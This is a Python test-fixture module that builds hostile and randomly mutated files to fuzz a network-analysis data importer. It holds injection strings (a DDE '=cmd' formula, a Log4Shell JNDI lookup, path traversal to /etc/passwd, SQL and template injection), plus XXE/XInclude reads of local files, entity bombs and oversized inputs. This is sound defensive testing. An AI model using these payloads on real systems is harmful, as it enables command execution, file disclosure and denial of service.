"""Hostile files for every format that is imported, and valid ones to damage."""

from __future__ import annotations

import json
import random
import sqlite3
import struct
import zipfile
from collections.abc import Callable, Iterator, Mapping
from io import BytesIO
from pathlib import Path
from typing import Any

from interchange.tables.hostile_tables import CANARY, HOSTILE, LAUGHS
from interchange.tables.workbooks import excel, xlsb

__all__ = ["hostile_imports", "mutants"]

FIXTURES = Path(__file__).parents[1] / "fixtures"
#: Texts that act when they are taken for what they look like.
TEXTS = (
    f'=HYPERLINK("{CANARY}")',
    "=cmd|' /C calc'!A0",
    f'<img src="{CANARY}">',
    "file:///etc/hostname",
    "\\\\192.0.2.1\\share\\a",
    "../../../../etc/passwd",
    "'; DROP TABLE actors; --",
    "${jndi:ldap://192.0.2.1/a}",
    "{{7*7}}",
    "\u202eevil\u2069",
    "x" * 5_000,
)
GRAPHML = '<graphml xmlns="http://graphml.graphdrawing.org/xmlns"><graph edgedefault="directed">'
GEXF = '<gexf xmlns="http://gexf.net/1.3" version="1.3"><graph><nodes>'


def hostile_imports() -> dict[str, tuple[str, Callable[[], bytes]]]:
    """A file name and what makes its bytes, by a name."""
    tables = {name: (each.file, each.make) for name, each in HOSTILE.items()}
    return tables | _TEXT_TABLES | _OTHERS


def _register(book: Any) -> None:
    sheet = book.add_worksheet("Register", None)
    sheet.write_row(0, 0, ["Stakeholder", "Influence (1-5)", "Attitude", "Comments", "Group"])
    for row, text in enumerate(TEXTS, 1):
        for column, cell in enumerate((text, 3, "Supportive", text, text)):
            sheet.write(row, column, cell) if not isinstance(cell, str) else sheet.write_string(
                row, column, cell
            )


def _csv(rows: list[list[str]]) -> bytes:
    return "\r\n".join(";".join('"' + cell.replace('"', '""') + '"' for cell in row) for row in rows).encode(
        "utf-8", "surrogatepass"
    )


_TEXT_TABLES: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "texts that act, in a workbook": ("a.xlsx", lambda: excel(_register)),
    "texts that act, in a text": (
        "a.csv",
        lambda: _csv(
            [["Name", "Influence", "Alignment", "Reason"], *([text, "50", "-20", text] for text in TEXTS)]
        ),
    ),
    "two columns of one name": ("a.csv", lambda: b"Name,Influence,Influence,Name\nA,1,100,B\nA,5,7,C\n"),
    "rows that contradict each other": (
        "a.csv",
        lambda: (
            b"Name,Influence,Alignment\n"
            + b"".join(b"Same,%d,%d\n" % (n % 101, n % 201 - 100) for n in range(5_000))
        ),
    ),
    "columns of everything": (
        "a.csv",
        lambda: (
            (",".join(["Name", *[f"Influence {n}" for n in range(1_500)]]) + "\n").encode()
            + b"".join(b"A%d" % row + b",5" * 1_500 + b"\n" for row in range(200))
        ),
    ),
    "a register of 60,000 rows": (
        "a.csv",
        lambda: (
            b"Stakeholder;Power (1-5);Interest (1-5);Attitude\n"
            + b"".join(b"Actor %d;%d;%d;Supportive\n" % (n, n % 5 + 1, n % 4 + 1) for n in range(60_000))
        ),
    ),
}
_OTHERS: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "GraphML with entities": (
        "a.graphml",
        lambda: LAUGHS + GRAPHML.encode() + b'<node id="&i;&f;"/></graph></graphml>',
    ),
    "GraphML of a million elements": (
        "a.graphml",
        lambda: (GRAPHML + '<node id="a"/>' * 1_000_000 + "</graph></graphml>").encode(),
    ),
    "GraphML of deep graphs": ("a.graphml", lambda: GRAPHML.encode() + b'<node id="a"><graph>' * 200_000),
    "GraphML that calls": (
        "a.graphml",
        lambda: (
            f'<?xml version="1.0"?><?xml-stylesheet href="{CANARY}"?><!DOCTYPE graphml SYSTEM "{CANARY}">'
            f'{GRAPHML}<node id="a"><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
            'href="file:///etc/hostname"/></node></graph></graphml>'
        ).encode(),
    ),
    "GEXF with entities": (
        "a.gexf",
        lambda: LAUGHS + GEXF.encode() + b'<node id="&i;"/></nodes></graph></gexf>',
    ),
    "GEXF of half a million nodes": (
        "a.gexf",
        lambda: (
            GEXF
            + "".join(f'<node id="{n}" label="{n}"/>' for n in range(500_000))
            + "</nodes></graph></gexf>"
        ).encode(),
    ),
    "Pajek of billions": (
        "a.net",
        lambda: b'*Vertices 2000000000\n1 "A"\n*Arcs\n1 2000000000 1\n*Matrix :1\n' + b"1 " * 500_000,
    ),
    "UCINET of billions": (
        "a.dl",
        lambda: b"DL N=2000000000 NM=999999999 FORMAT=FULLMATRIX\nDATA:\n" + b"1 " * 500_000,
    ),
    "GML of brackets": ("a.gml", lambda: b"graph [ " + b"node [ id 1 " * 300_000),
    "deep JSON": ("a.json", lambda: b'{"elements":' + b"[" * 500_000),
    "JSON of Kumu that goes round": (
        "a.json",
        lambda: json.dumps(
            {
                "elements": [{"_id": "a", "attributes": {"label": text}} for text in TEXTS] * 500,
                "connections": [{"_id": "c", "from": "a", "to": "nowhere", "direction": "sideways"}] * 5_000,
            }
        ).encode(),
    ),
    "JSON of PolicyMaker with wrong values": (
        "a.json",
        lambda: json.dumps(
            {
                "Player": [
                    {"Player_ID": n % 7, "Player_name": None, "PosValue": 10**30, "PowValue": "x"}
                    for n in range(20_000)
                ],
                "Strategy": {},
                "Affected_player": [[]],
            }
        ).encode(),
    ),
    "KTAB of very many dimensions": (
        "a.csv",
        lambda: b"a,b,2,99999999,\nActor,Description,Influence" + b",x Position" * 100_000,
    ),
    "KTAB with entities": ("a.xml", lambda: LAUGHS + b"<Scenario><name>&i;</name></Scenario>"),
    "Decide of wrong values": (
        "a.csv",
        lambda: b"#A 'a' 'A' ''\n#P 'p' 'P'\n#M 'p' 1e999 'x'\n" + b"#D 'a' 'p' 1e999 nan -5\n" * 50_000,
    ),
    "a base of a program": ("a.sqlite", lambda: _base("CREATE TABLE a (b)")),
    "a base with triggers and views": (
        "a.dna",
        lambda: _base(
            "CREATE VIEW DOCUMENTS AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) "
            "SELECT i AS ID, i AS Date FROM n",
            "CREATE VIEW STATEMENTS AS SELECT * FROM DOCUMENTS",
            "CREATE TABLE VARIABLES (ID, Variable, DataType, StatementTypeId)",
            "CREATE TABLE STATEMENTTYPES (ID, Label)",
            "CREATE TABLE ENTITIES (ID, StatementId, VariableId, Value)",
        ),
    ),
    "a base cut off": (
        "a.dna",
        lambda: _base("CREATE TABLE STATEMENTS (a)", "CREATE TABLE DOCUMENTS (a)")[:5_000],
    ),
    "half a base": (
        "a.db",
        lambda: (
            _base("CREATE TABLE ActorDescription (a)", "CREATE TABLE VectorPosition (a)")[:100] + bytes(4_000)
        ),
    ),
    "BibTeX of open brackets": ("a.bib", lambda: b"@article{a, title={" + b"{" * 200_000),
    "BibTeX of very many": (
        "a.bib",
        lambda: b"".join(b"@misc{k%d, title={T}, url={%s}}\n" % (n, CANARY.encode()) for n in range(30_000)),
    ),
    "RIS of very many": ("a.ris", lambda: b"TY  - JOUR\nTI  - T\nER  - \n" * 60_000),
    "CSL of wrong kinds": (
        "a.json",
        lambda: json.dumps(
            [{"type": "book", "title": [], "author": [None], "issued": {"date-parts": [["x"]]}}] * 20_000
        ).encode(),
    ),
}


def _base(*statements: str) -> bytes:
    """An SQLite file."""
    connection = sqlite3.connect(":memory:")
    try:
        for statement in statements:
            connection.execute(statement)
        return connection.serialize()
    finally:
        connection.close()


def mutants(seed: int, count: int) -> Iterator[tuple[str, bytes]]:
    """`count` files that were valid, with bytes changed, left out and doubled, within archives too."""
    chance = random.Random(seed)
    bases = list(_valid())
    for number in range(count):
        name, base = bases[number % len(bases)]
        inside = base.startswith(b"PK") and chance.random() < 0.8
        yield name, _changed_part(base, chance) if inside else _changed(base, chance)


def _valid() -> Iterator[tuple[str, bytes]]:
    for name in ("register.xls", "register.ods", "semicolons.csv"):
        yield name, (FIXTURES / name).read_bytes()
    yield "a.xlsx", excel(_register)
    cells = [
        (0, struct.pack("<I", 1) + bytes(13)),
        (7, struct.pack("<III", 0, 0, 1)),
        (5, struct.pack("<IId", 1, 0, 85.0)),
    ]
    yield "a.xlsb", xlsb(cells, ["Name", "Türkiye"])
    yield "a.html", b"<html><table><tr><td rowspan=2>Name<td>Influence<tr><td>5</table></html>"
    with zipfile.ZipFile(FIXTURES / "register.ods") as archive:
        yield "a.fods", archive.read("content.xml")
    yield (
        "a.graphml",
        (GRAPHML + '<node id="a"/><node id="b"/><edge source="a" target="b"/></graph></graphml>').encode(),
    )
    yield "a.gexf", (GEXF + '<node id="1" label="A"/></nodes></graph></gexf>').encode()
    yield "a.dna", _base("CREATE TABLE STATEMENTS (ID, DocumentId)", "CREATE TABLE DOCUMENTS (ID, Date)")


def _changed(base: bytes, chance: random.Random) -> bytes:
    data = bytearray(base)
    for _ in range(chance.choice((1, 1, 2, 4, 16))):
        place, kind = chance.randrange(len(data)), chance.randrange(4)
        if kind == 0:
            data[place] = chance.randrange(256)
        elif kind == 1:
            data[place : place + 4] = chance.choice(
                (b"\xff" * 4, bytes(4), b"\xff\xff\xff\x7f", b"\0\0\0\x80")
            )
        elif kind == 2:
            del data[place : place + chance.randrange(1, 64)]
        else:
            start = chance.randrange(len(data))
            data[place:place] = data[start : start + chance.randrange(1, 64)]
        data = data or bytearray(b"x")
    return bytes(data)


def _changed_part(base: bytes, chance: random.Random) -> bytes:
    """The archive with one of its parts changed, and the right checksum of it."""
    file = BytesIO()
    with zipfile.ZipFile(BytesIO(base)) as archive, zipfile.ZipFile(file, "w") as changed:
        chosen = chance.choice([info.filename for info in archive.infolist() if info.file_size])
        for name in archive.namelist():
            content = archive.read(name)
            changed.writestr(name, _changed(content, chance) if name == chosen else content)
    return file.getvalue()
